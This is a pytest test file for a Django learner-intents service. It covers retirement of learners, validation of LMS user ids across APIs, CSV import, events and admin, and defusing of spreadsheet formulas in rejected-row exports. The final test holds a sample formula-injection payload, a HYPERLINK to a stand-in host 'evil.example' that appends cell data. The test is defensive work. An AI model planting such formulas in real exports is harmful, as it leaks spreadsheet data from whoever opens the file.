"""
Retirement sticks, and one LMS user id rule holds, on every path that writes or names a
learner: the service and learner APIs, the CSV import, certificate events, the admin and the
commands.
"""

import csv
import io
import logging

import pytest
from django.core.management import CommandError, call_command
from openedx_events.learning.signals import PROGRAM_CERTIFICATE_AWARDED

from pie.apps.core.models import RetiredLearner, User
from pie.apps.core.values import InvalidValue, parse_lms_user_id
from pie.apps.intents.models import ProgramIntent
from pie.apps.intents.tests.events import metadata, program_certificate
from pie.apps.intents.tests.factories import ProgramIntentFactory

pytestmark = pytest.mark.django_db

RETIRED = 501
OTHER = 502
PROGRAM = "3a0fd5a0-f5c0-4b1f-a3b8-f0f4c6a7e9d1"
RETIRE = "/api/v1/retire_user/"
HEADER = "program_uuid,user_id,intent_reason,intent_certainty,effective_time\n"
HUGE_ID = "9" * 5000
INTENT = {
    "program_uuid": PROGRAM,
    "reason": "BUNDLE_PURCHASE",
    "certainty": "CERTAIN_YES",
    "effective_timestamp": "2024-05-01T12:00:00Z",
}


@pytest.fixture
def retirement_worker(make_service_client):
    return make_service_client("retirement_service_worker")


@pytest.fixture
def staff(make_service_client):
    return make_service_client("staff_tool", administrator=True)


@pytest.fixture
def retired(retirement_worker, make_client):
    """LMS user 501 recorded intents through the API, then was retired."""
    assert (
        make_client(RETIRED).post("/api/v1/program_intents/", INTENT, format="json").status_code
        == 201
    )
    response = retirement_worker.post(RETIRE, {"edx_lms_user_id": RETIRED}, format="json")
    assert response.status_code == 204
    assert not ProgramIntent.objects.filter(lms_user_id=RETIRED).exists()
    return RETIRED


def import_csv(tmp_path, rows: str, *args) -> tuple[str, str, CommandError | None]:
    path = tmp_path / "intents.csv"
    path.write_text(HEADER + rows)
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("bulk_insert_intents", str(path), *args, stdout=out, stderr=err)
    except CommandError as error:
        return out.getvalue(), err.getvalue(), error
    return out.getvalue(), err.getvalue(), None


class TestRetirementSticks:
    def test_the_retired_id_is_kept_and_nothing_else(self, retired):
        row = RetiredLearner.objects.get()
        assert row.lms_user_id == RETIRED
        assert {field.name for field in RetiredLearner._meta.fields} == {
            "lms_user_id",
            "retired_at",
        }

    def test_an_old_csv_export_skips_the_retired_learner_and_says_so(self, retired, tmp_path):
        rows = (
            f"{PROGRAM},{RETIRED},BUNDLE_PURCHASE,CERTAIN_YES,2024-05-01 12:00:00\n"
            f"{PROGRAM},{OTHER},BUNDLE_PURCHASE,CERTAIN_YES,2024-05-01 12:00:00\n"
            f"{PROGRAM},{RETIRED},ENROLLED_ALL_COURSES,MAYBE,2024-05-02 12:00:00\n"
        )
        out, err, error = import_csv(tmp_path, rows)
        assert error is None, err
        assert (
            "Rows read: 3, inserted: 1, duplicates skipped: 0, "
            "skipped: retired learner: 2, invalid: 0"
        ) in out
        assert list(ProgramIntent.objects.values_list("lms_user_id", flat=True)) == [OTHER]

    def test_a_dry_run_counts_the_retired_learners_rows_too(self, retired, tmp_path):
        rows = f"{PROGRAM},{RETIRED},BUNDLE_PURCHASE,CERTAIN_YES,2024-05-01 12:00:00\n"
        out, _, error = import_csv(tmp_path, rows, "--dry-run")
        assert error is None
        assert "skipped: retired learner: 1" in out

    def test_a_replayed_certificate_event_is_logged_and_skipped(self, retired, caplog):
        with caplog.at_level(logging.INFO, logger="pie.apps.intents.handlers"):
            PROGRAM_CERTIFICATE_AWARDED.send_event_with_custom_metadata(
                metadata(),
                send_robust=False,
                program_certificate=program_certificate(lms_user_id=RETIRED),
            )
        assert not ProgramIntent.objects.filter(lms_user_id=RETIRED).exists()
        assert f"learner {RETIRED} is retired" in caplog.text

    def test_a_service_post_is_refused_with_409(self, retired, staff):
        url = f"/api/v1/learners/{RETIRED}/program_intents/"
        response = staff.post(url, INTENT, format="json")
        assert response.status_code == 409
        assert response["Content-Type"] == "application/json"
        assert "retired" in response.json()["detail"]
        bulk = staff.post(url, [INTENT, {**INTENT, "certainty": "MAYBE"}], format="json")
        assert bulk.status_code == 200
        assert [item["status"] for item in bulk.json()["results"]] == [409, 409]
        assert not ProgramIntent.objects.filter(lms_user_id=RETIRED).exists()

    def test_a_new_token_for_the_retired_learner_is_refused(self, retired, make_client):
        client = make_client(RETIRED, preferred_username="a_new_name")
        response = client.post("/api/v1/program_intents/", INTENT, format="json")
        assert response.status_code == 401
        assert not User.objects.filter(username="a_new_name").exists()
        assert not ProgramIntent.objects.filter(lms_user_id=RETIRED).exists()

    def test_retiring_again_is_204_and_other_learners_are_untouched(
        self, retired, retirement_worker, staff
    ):
        ProgramIntentFactory(lms_user_id=OTHER)
        response = retirement_worker.post(RETIRE, {"edx_lms_user_id": RETIRED}, format="json")
        assert response.status_code == 204
        assert RetiredLearner.objects.count() == 1
        url = f"/api/v1/learners/{OTHER}/program_intents/"
        assert staff.post(url, INTENT, format="json").status_code == 201


class TestOneLmsUserIdRule:
    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            (1, 1),
            ("42", 42),
            (" 42 ", 42),
            ("0042", 42),
            (2**31 - 1, 2**31 - 1),
            (str(2**31 - 1), 2**31 - 1),
        ],
    )
    def test_valid_ids(self, value, expected):
        assert parse_lms_user_id(value) == expected

    @pytest.mark.parametrize(
        "value",
        [0, -1, 2**31, str(2**31), HUGE_ID, "0" * 5000 + "1" * 11, True, None, "", "4.5", 4.5,
         "١٢", "+5", "-5", "5e3", [], {}],
    )  # fmt: skip
    def test_invalid_ids(self, value):
        with pytest.raises(InvalidValue):
            parse_lms_user_id(value)

    @pytest.mark.parametrize(
        "url",
        [
            f"/api/v1/learners/{HUGE_ID}/program_intents/",
            f"/api/v1/learners/{HUGE_ID}/program_intents/most_recent_and_certain/",
            f"/api/v1/learners/{2**31}/program_intents/",
        ],
    )
    def test_over_long_ids_in_api_paths_are_400_json(self, staff, url):
        response = staff.get(url)
        assert response.status_code == 400
        assert response.json()["status"] == 400
        assert "lms_user_id" in response.json()["detail"]

    def test_over_long_ids_in_retirement_are_400_json(self, retirement_worker):
        response = retirement_worker.post(
            RETIRE, f'{{"edx_lms_user_id": {HUGE_ID}}}', content_type="application/json"
        )
        assert response.status_code == 400
        response = retirement_worker.post(RETIRE, {"edx_lms_user_id": HUGE_ID}, format="json")
        assert response.status_code == 400
        assert not RetiredLearner.objects.exists()

    def test_over_long_ids_in_a_learner_body_are_400(self, make_client):
        response = make_client(OTHER).post(
            "/api/v1/program_intents/", {**INTENT, "lms_user_id": HUGE_ID}, format="json"
        )
        assert response.status_code == 400
        assert "lms_user_id" in response.json()["errors"]

    def test_an_over_long_id_in_a_csv_is_one_rejected_line(self, tmp_path):
        rows = (
            f"{PROGRAM},11,BUNDLE_PURCHASE,CERTAIN_YES,2024-05-01 12:00:00\n"
            f"{PROGRAM},{HUGE_ID},BUNDLE_PURCHASE,CERTAIN_YES,2024-05-01 12:00:00\n"
            f"{PROGRAM},13,BUNDLE_PURCHASE,CERTAIN_YES,2024-05-01 12:00:00\n"
        )
        out, err, error = import_csv(tmp_path, rows)
        assert "1 invalid row" in str(error)
        assert "line 3: user_id: Must be between 1 and 2147483647" in err
        assert "Rows read: 3, inserted: 2" in out
        assert sorted(ProgramIntent.objects.values_list("lms_user_id", flat=True)) == [11, 13]

    def test_an_over_long_id_in_an_event_is_logged_and_skipped(self, caplog):
        with caplog.at_level(logging.WARNING, logger="pie.apps.intents.handlers"):
            PROGRAM_CERTIFICATE_AWARDED.send_event_with_custom_metadata(
                metadata(),
                send_robust=False,
                program_certificate=program_certificate(lms_user_id=10**4000),
            )
        assert "malformed user.id" in caplog.text
        assert not ProgramIntent.objects.exists()

    @pytest.mark.parametrize("term", [HUGE_ID, str(2**31), "0"])
    def test_admin_search_with_an_impossible_id_finds_nothing(self, admin_client, term):
        ProgramIntentFactory(lms_user_id=OTHER)
        for url in ("/admin/intents/programintent/", "/admin/core/retiredlearner/"):
            response = admin_client.get(url, {"q": term})
            assert response.status_code == 200
            assert f">{OTHER}<" not in response.content.decode()

    @pytest.mark.parametrize("argument", [HUGE_ID, str(2**31), "0", "abc"])
    def test_create_dev_token_refuses_an_impossible_id(self, argument):
        with pytest.raises(CommandError, match="lms_user_id"):
            call_command("create_dev_token", argument, stdout=io.StringIO())


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_errors_file_defuses_cells_a_spreadsheet_would_run(tmp_path, trigger):
    formula = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"click")'
    path = tmp_path / "intents.csv"
    with path.open("w", newline="") as handle:
        handle.write(HEADER)
        csv.writer(handle).writerow(
            [PROGRAM, f"{trigger}11", formula, "CERTAIN_YES", "2024-05-01 12:00:00"]
        )
    errors = tmp_path / "rejected.csv"
    with pytest.raises(CommandError, match="1 invalid row"):
        call_command(
            "bulk_insert_intents",
            str(path),
            "--errors",
            str(errors),
            stdout=io.StringIO(),
            stderr=io.StringIO(),
        )
    record = next(csv.DictReader(errors.open(newline="")))
    assert record["intent_reason"] == "'" + formula
    assert record["user_id"] == f"'{trigger}11"
    for cell in record.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
